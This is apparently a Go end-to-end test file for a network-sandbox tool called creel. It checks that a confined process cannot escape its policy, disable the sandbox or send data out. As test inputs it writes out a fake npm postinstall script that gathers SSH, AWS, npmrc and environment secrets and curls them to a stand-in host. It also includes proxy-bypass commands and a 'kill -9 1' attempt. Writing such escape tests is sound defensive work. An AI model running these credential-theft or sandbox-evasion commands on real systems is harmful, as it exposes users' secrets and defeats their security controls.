package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/creel-run/creel/audit"
)

// TestEscapeControl: CTL-04 and CTL-07, and the lines CFG and NAM that are about
// what the policy says and who may say it.
func TestEscapeControl(t *testing.T) {
	t.Parallel()
	bothUsers(t, func(t *testing.T) {
		s := newSink(t)
		name := fmt.Sprintf("e2e-ctl-%d", os.Getpid())
		l := box{policy: twoHosts(restFull, "ok.test"), name: name, flags: join(s.upstreams("ok.test", "no.test"), []string{"--trust-ca", caFile(t)})}.start(t)
		if err := install(creel, filepath.Join(l.box.workspace, "creel")); err != nil {
			t.Fatal(err)
		}
		works := func(x *line) string {
			path := "/" + x.mark()
			if got := x.sh("curl -sS https://ok.test" + path); !s.got(path) {
				return got
			}
			return ""
		}
		l.escape(t, s, "CTL-04", works, func(x *line) {
			for _, way := range []string{inside, cleared} {
				x.way(way)
				for _, c := range []string{"./creel stop " + name, "./creel reload " + name + " --policy creel.yaml", "./creel posture " + name, "./creel run -- true"} {
					if got := x.receive(x.send(order{Argv: []string{"/bin/sh", "-c", c}, Clear: way == cleared})); got.Code == 0 {
						x.Errorf("%s: %s", c, got.Stdout)
					}
				}
			}
			if got := x.sh("find / -xdev -type s 2>/dev/null; cat /proc/net/unix | grep creel; ls /run/creel; ./creel ls"); strings.Contains(got, "/control") || strings.Contains(got, name) {
				x.Errorf("a socket is visible: %s", got)
			}
			x.try(transparent, "after asking for more", func(mark string) string { return x.sh("curl -sS https://no.test/" + mark) })
			creelCmd(x.T, "posture", name).want(x.T, 0)
		})
		l.escape(t, s, "CTL-07", works, func(x *line) {
			// What cannot be loaded changes nothing, whatever is wrong with it; the next good one is taken.
			good := readFile(x.T, x.policy)
			for _, bad := range []string{"", "\x00", "version: 2\n", strings.ReplaceAll(good, "ok.test", "x.test."), strings.ReplaceAll(good, "ok.test", "\"*.*\""), good + "\n" + good, strings.ReplaceAll(good, "access: full", "access: fulll"),
				strings.ReplaceAll(good, "ok.test", "\"[a-z\""), "version: 2\nx: &a [*a]\n", strings.Repeat("a: {", 5000), "version: 3\n", "{}\n"} {
				seq := len(x.events())
				write(x.T, x.policy, bad)
				x.event(seq, fmt.Sprintf("the verdict about %.40q", bad), func(e event) bool { return e.Kind == audit.PolicyReject || e.Kind == policyLoaded })
				if bad == "version: 2\n" { // this one is good, and denies all
					continue
				}
				for _, at := range everyWay("curl -sS https://no.test/MARK")[:1] {
					x.try(at.way, at.what, func(mark string) string { return x.sh(strings.ReplaceAll(at.what, "MARK", mark)) })
				}
			}
			seq := len(x.events())
			write(x.T, x.policy, good)
			x.event(seq, "the good one again", func(e event) bool { return e.Kind == policyLoaded })
		})
		l.escape(t, s, "NAM-10", works, func(x *line) {
			x.way(inside)
			for _, c := range []struct{ host, want string }{{"*.vercel.app", "anybody can rent"}, {"*.s3.amazonaws.com", "anybody can rent"}, {"*.github.io", "anybody can rent"}, {"*.pages.dev", "anybody can rent"}, {"*.com", "fault"}, {"*", "fault"}} {
				file := filepath.Join(x.TempDir(), "p.yaml")
				write(x.T, file, policyHead()+"network_policies:\n  w:\n    endpoints:\n      - {host: \""+c.host+"\", port: 443, protocol: rest, access: full}\n    binaries: any\n")
				if r := creelCmd(x.T, "policy", "check", file); !strings.Contains(r.stdout, c.want) {
					x.Errorf("%s: want %q: %s", c.host, c.want, r.stdout)
				}
			}
		})
		l.escape(t, s, "CFG-03", works, func(x *line) {
			// There is no off switch: not in the environment, not in a flag, not by a failure that is tried again outside.
			for _, way := range []string{transparent, absolute} {
				x.way(way)
			}
			for _, c := range []string{"CREEL_DISABLE=1 NO_PROXY='*' no_proxy='*' curl -sS https://no.test/MARK", "env -u SSL_CERT_FILE -u HTTPS_PROXY curl -sSk https://no.test/MARK", "curl -sS --noproxy '*' https://no.test/MARK", "env -i CREEL=off SANDBOX=0 /usr/bin/curl -sSk https://no.test/MARK"} {
				x.try(script(c).way, c, func(mark string) string { return x.sh(strings.ReplaceAll(c, "MARK", mark)) })
			}
			if got := creelCmd(x.T, "run", "--help"); strings.Contains(got.stdout, "no-sandbox") || strings.Contains(got.stdout, "unsafe") || strings.Contains(got.stdout, "disable") {
				x.Errorf("an off switch: %s", got.stdout)
			}
			host := x.TempDir()
			program := filepath.Join(host, "only-outside")
			if err := os.WriteFile(program, []byte("#!/bin/sh\ntouch "+host+"/ran\n"), 0o755); err != nil {
				x.Fatal(err)
			}
			if r := (box{policy: policyHead() + "network_policies: {}\n"}).run(x.T, program); r.code != 127 && r.code != 126 {
				x.Errorf("status %d: %s", r.code, r.stderr)
			}
			if _, err := os.Lstat(host + "/ran"); err == nil {
				x.Error("a program that is not inside ran outside")
			}
			seq := len(x.events())
			x.sh("kill -9 1; echo 3 > /proc/1/oom_score_adj; for i in 1 2 3; do curl -sS https://no.test/; done")
			x.denied(seq)
		})
		l.escape(t, s, "CFG-06", works, func(x *line) {
			// A dependency that turns on its user: its install script looks for secrets and calls home.
			x.sh(`mkdir -p pkg && cat > pkg/package.json <<'X'
{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "sh ./steal.sh"}}
X
cat > pkg/steal.sh <<'X'
(env; cat ~/.npmrc ~/.netrc ~/.ssh/* ~/.aws/credentials /proc/*/environ) > loot 2>/dev/null
X`)
			for _, at := range everyWay("curl -sS --data-binary @loot https://no.test/MARK", "curl -sS --data-binary @loot http://no.test/MARK") {
				at.what = "cd pkg && sh ./steal.sh; " + at.what
				x.try(at.way, at.what, func(mark string) string { return x.sh(strings.ReplaceAll(at.what, "MARK", mark)) })
			}
			if got := x.sh("cat pkg/loot"); strings.Contains(got, "canary-") {
				x.Error("it found a secret")
			}
		})
	})
}

// TestEscapeTelemetry: EXF-10, and the door of EXF-09 that is shut: the names of
// denied requests go nowhere.
func TestEscapeTelemetry(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, z := newWorldArena(t)
		a.escape(t, a.s, "EXF-10", a.works, func(x *line) {
			for _, host := range []string{"o1.ingest.sentry.io", "statsig.anthropic.com", "telemetry.nextjs.org", "browser-intake-datadoghq.com", "events.statsigapi.net", "play.googleapis.com"} {
				for _, at := range everyWay("curl -sS -d '{\"crash\":\"MARK\"}' https://"+host+"/MARK", "curl -sS -d '{\"crash\":\"MARK\"}' http://"+host+"/MARK") {
					x.try(at.way, at.what, func(mark string) string { return at.do(a, mark) })
				}
				if z.wasAsked(host) {
					x.Errorf("%s was asked for outside", host)
				}
			}
		})
	})
}
